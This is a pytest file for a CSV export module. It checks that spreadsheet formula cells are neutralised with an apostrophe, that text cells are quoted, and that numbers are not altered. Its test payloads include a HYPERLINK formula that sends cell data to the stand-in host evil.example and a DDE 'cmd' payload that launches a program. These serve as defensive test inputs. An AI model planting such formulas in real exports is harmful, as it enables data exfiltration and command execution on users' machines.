"""The one CSV writer: spreadsheet formulas neutralised, every text cell quoted, numbers left numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from infrastructure.csv_export import csv_lines, csv_response, safe_cell

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_are_shown_as_text(payload):
    assert safe_cell(payload) == "'" + payload
    line = "".join(csv_lines([[payload]]))
    assert next(csv.reader(io.StringIO(line))) == ["'" + payload]


def test_every_text_cell_is_quoted_so_a_semicolon_locale_sees_one_cell():
    line = "".join(csv_lines([["x;=cmd|' /C calc'!A0;", "plain", 3, -0.25, Decimal("12.50")]]))
    assert line == '"x;\'=cmd|\' /C calc\'!A0;","plain",3,-0.25,12.50\r\n'
    # Read as a ';'-separated file (quotes honoured, as spreadsheets do): no cell is a formula.
    cells = next(csv.reader(io.StringIO(line), delimiter=";"))
    assert not any(cell.lstrip().startswith("=") for cell in cells)


def test_a_formula_after_a_separator_inside_a_cell_is_neutralised_too():
    line = "".join(csv_lines([[1, "x;=cmd|' /C calc'!A0;", "a, +1", "ok;fine"]]))
    # A ';' spreadsheet honours quotes only at a field's start: the first field here is `1,"x`.
    cells = next(csv.reader(io.StringIO(line), delimiter=";"))
    assert len(cells) > 1 and not any(cell.lstrip().startswith(("=", "+")) for cell in cells)
    assert next(csv.reader(io.StringIO(line))) == ["1", "x;'=cmd|' /C calc'!A0;", "a, '+1", "ok;fine"]


def test_numbers_stay_numbers_and_none_is_empty():
    assert safe_cell(-3) == -3 and safe_cell(-0.5) == -0.5 and safe_cell(None) == ""


def test_response_streams_as_a_download():
    response = csv_response([["a"], ["=1"]], filename="x.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark, for Excel
    assert list(csv.reader(io.StringIO(raw.decode("utf-8-sig")))) == [["a"], ["'=1"]]
